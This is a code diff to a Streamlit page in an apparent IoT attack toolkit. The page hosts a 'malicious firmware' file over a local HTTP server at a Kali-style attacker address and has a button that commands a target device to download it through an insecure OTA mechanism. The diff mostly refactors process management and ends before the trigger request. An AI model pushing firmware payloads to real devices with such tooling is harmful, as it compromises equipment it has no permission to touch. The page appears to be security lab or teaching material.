@@ -1,34 +1,29 @@
+import time
+page_started = time.perf_counter()
+
 import streamlit as st
-import subprocess
 import os
-import signal
-import time
-import socket
-from utils import run_command
+from utils import run_command, get_supervisor, launch_job, get_environment, page_startup
 
 st.set_page_config(page_title="Insecure OTA Update", page_icon="📲")
 
 st.header("📲 Insecure Firmware Update (OTA)")
 st.markdown("This module demonstrates an **Insecure Direct Object Reference (IDOR)** in IoT OTA mechanisms. It hosts a local firmware file and commands the target to download it.")
 
+page_startup("Insecure OTA Update", page_started)
+
 # --- SECTION 1: HOSTING THE FIRMWARE ---
 st.subheader("1. Host Malicious Firmware")
 
 # Session state to manage the background server process
-if "server_pid" not in st.session_state:
-    st.session_state.server_pid = None
-
-def get_local_ip():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    try:
-        # This doesn't actually connect but gets the interface IP
-        s.connect(('10.255.255.255', 1))
-        IP = s.getsockname()[0]
-    except Exception:
-        IP = "127.0.0.1"
-    finally:
-        s.close()
-    return IP
+if "server_job" not in st.session_state:
+    st.session_state.server_job = None
+
+supervisor = get_supervisor()
+server_job = supervisor.get(st.session_state.server_job)
+if server_job is not None and not server_job.running:
+    st.session_state.server_job = None
+    server_job = None
 
 col_serv1, col_serv2 = st.columns(2)
 
@@ -38,35 +33,30 @@ with col_serv1:
 
 with col_serv2:
     st.write("### Server Status")
-    if st.session_state.server_pid:
-        st.success(f"✅ Active (PID: {st.session_state.server_pid})")
+    if server_job is not None:
+        st.success(f"✅ Active (PID: {server_job.pid})")
         if st.button("🛑 Stop Server"):
-            try:
-                os.kill(st.session_state.server_pid, signal.SIGTERM)
-                st.session_state.server_pid = None
-                st.rerun()
-            except ProcessLookupError:
-                st.session_state.server_pid = None
-                st.warning("Process was already killed.")
-                st.rerun()
+            supervisor.stop(server_job.job_id)
+            st.session_state.server_job = None
+            st.rerun()
     else:
         st.error("❌ Inactive")
         if st.button("🚀 Start Hosting"):
             if not os.path.exists(firmware_dir):
                 st.error(f"Directory not found: {firmware_dir}")
             else:
-                # Start python http module in background
-                process = subprocess.Popen(
+                # Start python http module in background, stopped after an hour at the latest
+                st.session_state.server_job = launch_job(
+                    "firmware http.server",
                     ["python3", "-m", "http.server", str(server_port)],
-                    cwd=firmware_dir,
-                    stdout=subprocess.DEVNULL,
-                    stderr=subprocess.DEVNULL
+                    max_runtime=3600,
+                    resources=(f"port:{server_port}",),
+                    cwd=firmware_dir
                 )
-                st.session_state.server_pid = process.pid
                 st.rerun()
 
 # Display the URL for the attacker
-kali_ip = get_local_ip()
+kali_ip = get_environment().local_ip()
 payload_url = f"http://{kali_ip}:{server_port}/firmware.bin"
 st.info(f"📍 Your Payload URL will be: `{payload_url}`")
 
@@ -87,7 +77,7 @@ with col_trig2:
 st.code(f"Payload: {payload_url}", language="text")
 
 if st.button("💀 Execute Firmware Update"):
-    if not st.session_state.server_pid:
+    if server_job is None:
         st.warning("⚠️ Warning: Your HTTP server is NOT running. The target will fail to download the file.")
     
     # ⚠️ We explicitly wrap the values in double quotes as requested.